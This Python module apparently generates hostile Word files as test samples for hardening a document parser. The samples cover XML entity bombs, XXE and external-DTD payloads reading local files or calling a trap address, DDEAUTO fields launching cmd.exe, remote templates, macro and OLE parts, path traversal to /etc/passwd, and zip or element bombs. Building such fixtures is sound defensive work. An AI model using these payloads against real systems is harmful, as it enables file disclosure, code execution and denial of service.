"""Hostile Word files."""

from __future__ import annotations

import io
import zlib

from samples.hostile.archives import deflated, with_part
from samples.hostile.base import (
    MACRO_MAIN,
    NAMES,
    Trap,
    file_item,
    links,
    paragraph,
    part,
    word,
    zipped,
)

_FILE = "phu-luc.docx"
_MIB = 1024 * 1024
_TEXT = paragraph("Phụ lục kèm theo.")
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "hahahahahahahaha">'
    + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


def _document(body: str, declaration: str = "") -> str:
    return part("document", f"<w:body>{body}</w:body>", declaration)


def _with_document(document: str | bytes) -> bytes:
    return word("", parts={"word/document.xml": document})


@file_item("truncated-word", _FILE)
def _truncated(trap: Trap) -> bytes:
    whole = word("".join(paragraph(f"Đoạn {number} của phụ lục.") for number in range(400)))
    return whole[: len(whole) * 2 // 3]


@file_item("dangling-relationship", _FILE)
def _dangling(trap: Trap) -> bytes:
    return word(_TEXT, ("r1", "styles", "styles.xml"), ("r2", "footnotes", "../../../../etc/passwd"))


@file_item("entity-bomb", _FILE)
def _entity_bomb(trap: Trap) -> bytes:
    return _with_document(_document(paragraph("&i;"), _LAUGHS))


@file_item("entity-bomb-utf-16", _FILE)
def _entity_bomb_utf16(trap: Trap) -> bytes:
    """In UTF-16 nobody finds the declaration who looks for its ASCII bytes."""
    return _with_document(_document(paragraph("&i;"), _LAUGHS).replace("UTF-8", "UTF-16").encode("utf-16"))


@file_item("entity-bomb-in-styles", _FILE)
def _entity_bomb_styles(trap: Trap) -> bytes:
    styles = part("styles", '<w:style w:styleId="&i;"/>', _LAUGHS).replace("UTF-8", "UTF-16").encode("utf-16")
    body = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Phụ lục</w:t></w:r></w:p>'
    return word(body, ("r1", "styles", "styles.xml"), parts={"word/styles.xml": styles})


def _external(target: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'


@file_item("external-entity-file", _FILE)
def _external_file(trap: Trap) -> bytes:
    return _with_document(_document(paragraph("&e;"), _external(trap.file.as_uri())))


@file_item("external-entity-network", _FILE)
def _external_network(trap: Trap) -> bytes:
    return _with_document(_document(paragraph("&e;"), _external(f"{trap.address}/entity")))


@file_item("external-dtd-utf-16", _FILE)
def _external_dtd(trap: Trap) -> bytes:
    declaration = f'<!DOCTYPE x SYSTEM "{trap.address}/dtd" [<!ENTITY % p SYSTEM "{trap.file.as_uri()}"> %p;]>'
    return _with_document(_document(_TEXT, declaration).replace("UTF-8", "UTF-16").encode("utf-16"))


@file_item("external-entity-in-relationships", _FILE)
def _external_relationships(trap: Trap) -> bytes:
    part_text = _external(trap.file.as_uri()) + links(("r1", "styles", "&e;"))
    return word(_TEXT, parts={"word/_rels/document.xml.rels": part_text})


@file_item("external-template", _FILE)
def _template(trap: Trap) -> bytes:
    return word(
        _TEXT,
        ("r1", "settings", "settings.xml"),
        ("r2", "attachedTemplate", f"{trap.address}/mau.dotm"),
        parts={
            "word/settings.xml": part("settings", '<w:attachedTemplate r:id="r1"/>'),
            "word/_rels/settings.xml.rels": links(("r1", "attachedTemplate", f"{trap.address}/mau.dotm")),
        },
    )


@file_item("external-image", _FILE)
def _image(trap: Trap) -> bytes:
    shape = '<v:shape style="width:9pt;height:9pt"><v:imagedata r:id="r1"/></v:shape>'
    picture = f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>"
    return word(_TEXT + picture, ("r1", "image", f"{trap.address}/dem.png"), ("r2", "image", trap.file.as_uri()))


@file_item("field-that-runs", _FILE)
def _field(trap: Trap) -> bytes:
    """DDE and INCLUDETEXT: old Word would start a program, or fetch a file, to fill in the field."""
    code = f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" INCLUDETEXT "{trap.address}/van-ban"'
    return word(f"{_TEXT}<w:p><w:fldSimple w:instr='{code}'><w:r><w:t>Kết quả</w:t></w:r></w:fldSimple></w:p>")


@file_item("embedded-object", _FILE)
def _object(trap: Trap) -> bytes:
    body = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r1"/></w:object></w:r></w:p>'
    return word(
        _TEXT + body,
        ("r1", "oleObject", "embeddings/oleObject1.bin"),
        parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ" * 4000},
    )


@file_item("alternative-chunk", _FILE)
def _chunk(trap: Trap) -> bytes:
    html = f"<html><body><img src='{trap.address}/a.png'><script>alert(1)</script>Danh sách</body></html>"
    return word(_TEXT + '<w:altChunk r:id="r1"/>', ("r1", "aFChunk", "chunk.html"), parts={"word/chunk.html": html})


@file_item("macros", "phu-luc.docm")
def _macros(trap: Trap) -> bytes:
    return word(
        _TEXT,
        ("r1", "vbaProject", "vbaProject.bin"),
        parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)},
        main=MACRO_MAIN,
    )


@file_item("macros-under-false-name", _FILE)
def _macros_hidden(trap: Trap) -> bytes:
    return _macros(trap)


@file_item("encrypted-word", "khoa.docx")
def _encrypted(trap: Trap) -> bytes:
    # A dev dependency: asked for only where the file is made.
    from msoffcrypto.format.ooxml import OOXMLFile

    sealed = io.BytesIO()
    OOXMLFile(io.BytesIO(word(_TEXT))).encrypt("mat-khau", sealed)
    return sealed.getvalue()


@file_item("huge-table", _FILE)
def _huge_table(trap: Trap) -> bytes:
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>Ô</w:t></w:r></w:p></w:tc>" * 100 + "</w:tr>"
    return word(f"{_TEXT}<w:tbl>{row * 1000}</w:tbl>{_TEXT}")


@file_item("large-table-within-limits", _FILE)
def _large_table(trap: Trap) -> bytes:
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>Ô</w:t></w:r></w:p></w:tc>" * 40 + "</w:tr>"
    return word(f"{_TEXT}<w:tbl>{row * 1000}</w:tbl>{_TEXT}")


@file_item("ten-thousand-paragraphs", _FILE)
def _many_paragraphs(trap: Trap) -> bytes:
    return word("".join(paragraph(f"Đoạn {number}.") for number in range(10_000)))


@file_item("control-characters", _FILE)
def _control(trap: Trap) -> bytes:
    return word(_TEXT + paragraph("Một&#1;hai&#0;"))


@file_item("text-that-turns-its-direction", _FILE)
def _bidi(trap: Trap) -> bytes:
    return word(paragraph("Đồng ý\u202eýv gnôhk\u202c\u200b\ufeff\u0085\u2028, &lt;script&gt;"))


@file_item("impossible-dates", _FILE)
def _dates(trap: Trap) -> bytes:
    dates = (
        "31 tháng 02 năm 2025",
        "30/02/2025",
        "00/00/0000",
        "ngày 45 tháng 13 năm 20255",
        "01/01/2105",
        "99/99/9999",
    )
    return word("".join(paragraph(f"Hội nghị tổng kết tổ chức ngày {date}.") for date in dates))


@file_item("million-nested-elements", _FILE)
def _deep(trap: Trap) -> bytes:
    depth = 1_000_000
    return _with_document(_document("<w:p>" * depth + "</w:p>" * depth))


@file_item("huge-attribute", _FILE)
def _attribute(trap: Trap) -> bytes:
    return _with_document(_document(f'<w:p w:rsidR="{"A" * (20 * _MIB)}"/>{_TEXT}'))


@file_item("hundred-thousand-attributes", _FILE)
def _attributes(trap: Trap) -> bytes:
    many = " ".join(f'w:a{number}="1"' for number in range(100_000))
    return _with_document(_document(f"<w:p {many}/>{_TEXT}"))


@file_item("many-namespaces", _FILE)
def _namespaces(trap: Trap) -> bytes:
    many = "".join(f'<n{n}:p xmlns:n{n}="urn:{n}"/>' for n in range(50_000))
    return _with_document(_document(f"{_TEXT}{many}"))


@file_item("deeply-nested-tables", _FILE)
def _deep_tables(trap: Trap) -> bytes:
    depth = 70
    return word("<w:tbl><w:tr><w:tc>" * depth + _TEXT + f"</w:tc></w:tr></w:tbl>{_TEXT}" * depth)


@file_item("nested-changes", _FILE)
def _nested_changes(trap: Trap) -> bytes:
    many = "<w:ins>" * 200 + "<w:r><w:t>Phụ lục</w:t></w:r>" + "</w:ins>" * 200
    return word(f"<w:p>{many}</w:p>" * 200)


@file_item("circular-styles", _FILE)
def _circular(trap: Trap) -> bytes:
    styles = (
        "".join(
            f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/>'
            '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
            for n in range(3)
        )
        + '<w:style w:type="numbering" w:styleId="N"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    )
    numbering = (
        '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="N"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    body = '<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>Phụ lục</w:t></w:r></w:p>'
    return word(
        body,
        ("r1", "styles", "styles.xml"),
        ("r2", "numbering", "numbering.xml"),
        parts={"word/styles.xml": part("styles", styles), "word/numbering.xml": part("numbering", numbering)},
    )


@file_item("long-chain-of-styles", _FILE)
def _chain(trap: Trap) -> bytes:
    number = 3000
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>' for n in range(number)
    )
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="S{n}"/></w:pPr><w:r><w:t>Đoạn {n}</w:t></w:r></w:p>' for n in range(number)
    )
    return word(body, ("r1", "styles", "styles.xml"), parts={"word/styles.xml": part("styles", styles)})


@file_item("absurd-spans", _FILE)
def _spans(trap: Trap) -> bytes:
    cell = (
        '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/><w:vMerge w:val="continue"/></w:tcPr>'
        "<w:p><w:r><w:t>Ô</w:t></w:r></w:p></w:tc>"
    )
    row = f'<w:tr><w:trPr><w:gridBefore w:val="-99999999999999999999"/></w:trPr>{cell * 20}</w:tr>'
    return word(f"<w:tbl>{row * 200}</w:tbl>{_TEXT}")


@file_item("many-sections", _FILE)
def _sections(trap: Trap) -> bytes:
    shown = "".join(f'<w:{what}Reference w:type="default" r:id="r1"/>' for what in ("header", "footer"))
    section = f"<w:sectPr>{shown}</w:sectPr>"
    body = f"<w:p><w:pPr>{section}</w:pPr><w:r><w:t>Phần</w:t></w:r></w:p>" * 10_000
    header = part("hdr", paragraph("Đầu trang"))
    return word(body + section, ("r1", "header", "header1.xml"), parts={"word/header1.xml": header})


@file_item("part-stands-twice", _FILE)
def _twice(trap: Trap) -> bytes:
    other = _document(paragraph("Bản khác."))
    return word(_TEXT, parts={"WORD/DOCUMENT.XML": other})


@file_item("part-bomb", _FILE)
def _part_bomb(trap: Trap) -> bytes:
    """A part that unpacks to 600 MiB."""
    return with_part(word(_TEXT), b"word/bom.xml", *deflated(600 * _MIB), 600 * _MIB)


@file_item("element-bomb-within-limits", _FILE)
def _element_bomb(trap: Trap) -> bytes:
    """Within every limit of size: 20 million empty paragraphs in 140 MiB that pack to less than one."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = f'<?xml version="1.0"?><w:document {NAMES}><w:body>'.encode()
    block, tail, times = b"<w:p/>" * 100_000, b"</w:body></w:document>", 240
    crc, pieces = 0, []
    for data in (head, *[block] * times, tail):
        pieces.append(packer.compress(data))
        crc = zlib.crc32(data, crc)
    packed = b"".join([*pieces, packer.flush()])
    size = len(head) + len(block) * times + len(tail)
    others = zipped({"_rels/.rels": links(("r1", "officeDocument", "word/document.xml"))})
    return with_part(others, b"word/document.xml", packed, crc, size)
